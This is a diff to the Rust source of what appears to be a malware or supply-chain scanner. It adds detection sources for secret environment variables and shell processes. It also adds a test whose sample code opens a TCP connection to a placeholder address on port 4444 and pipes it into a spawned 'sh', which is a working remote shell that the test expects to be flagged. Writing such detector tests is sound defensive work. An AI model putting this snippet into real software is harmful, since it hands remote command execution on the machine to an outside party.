@@ -102,9 +102,13 @@ pub enum Source {
     WalkedFiles,
     /// Data decoded at run time (base64, hex, XOR, decompression).
     Decoded,
+    /// An environment variable that holds a secret.
+    SecretVariable,
+    /// A shell started, its handles and what it prints.
+    ShellProcess,
 }
 
-const SOURCES: [Source; 10] = [
+const SOURCES: [Source; 12] = [
     Source::Network,
     Source::SecretFile,
     Source::SensitiveFile,
@@ -115,6 +119,8 @@ const SOURCES: [Source; 10] = [
     Source::UserDirectory,
     Source::WalkedFiles,
     Source::Decoded,
+    Source::SecretVariable,
+    Source::ShellProcess,
 ];
 
 impl Source {
@@ -134,6 +140,8 @@ impl Source {
             Source::UserDirectory => "the user's own directories",
             Source::WalkedFiles => "files found by walking directories",
             Source::Decoded => "data decoded at run time",
+            Source::SecretVariable => "a secret from the environment",
+            Source::ShellProcess => "a shell's input or output",
         }
     }
 }
@@ -200,6 +208,11 @@ fn source_of(kind: &SignalKind) -> Option<Source> {
         SignalKind::UserDirectory { .. } => Source::UserDirectory,
         SignalKind::WalksFiles { .. } => Source::WalkedFiles,
         SignalKind::Decode { .. } => Source::Decoded,
+        SignalKind::SecretVariable { .. } => Source::SecretVariable,
+        SignalKind::Spawn {
+            class: ProgramClass::Shell,
+            ..
+        } => Source::ShellProcess,
         _ => return None,
     })
 }
@@ -875,6 +888,25 @@ mod tests {
         assert_eq!(
             severity(&found, super::super::rules::DROPPER),
             None,
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_shell_whose_pipes_are_copied_to_a_fixed_server_is_a_remote_shell() {
+        let found = findings(
+            r#"
+            use std::process::{Command, Stdio};
+            pub fn keepalive() {
+                let mut stream = std::net::TcpStream::connect("192.0.2.9:4444").unwrap();
+                let mut child = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap();
+                let mut input = child.stdin.take().unwrap();
+                let _ = std::io::copy(&mut stream, &mut input);
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::REMOTE_SHELL),
+            Some(Verdict::Hold),
             "{found:?}"
         );
     }
